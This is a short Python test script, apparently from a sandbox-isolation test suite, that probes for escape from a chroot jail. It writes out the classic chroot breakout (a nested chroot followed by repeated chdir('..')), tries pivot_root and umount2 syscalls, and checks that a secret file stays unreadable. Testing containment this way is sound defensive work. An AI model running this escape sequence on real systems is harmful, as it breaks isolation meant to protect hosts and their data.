"""Leaves its root: the old way out of chroot, by a working directory that is not below it, and pivot_root.

class: CWE-243, chroot
expect: passed
docker: contained: the root is a mount of its own
"""
import contextlib
import os

import groups
import hostile

with contextlib.suppress(OSError):
    groups.become_root()
with contextlib.suppress(OSError):
    before = os.stat("/").st_ino, os.stat("/").st_dev
    os.makedirs("/tmp/jail", exist_ok=True)
    os.chroot("/tmp/jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if (os.stat("/").st_ino, os.stat("/").st_dev) != before and os.path.exists("/etc/passwd"):
        hostile.found("another root")
    with contextlib.suppress(OSError):
        hostile.syscall("pivot_root", b".", b".")
        hostile.syscall("umount2", b".", 2)
hostile.closed_for_reading(os.environ["HOSTILE_SECRET_FILE"])
hostile.mark()
hostile.mark("/.cell")
hostile.finish()
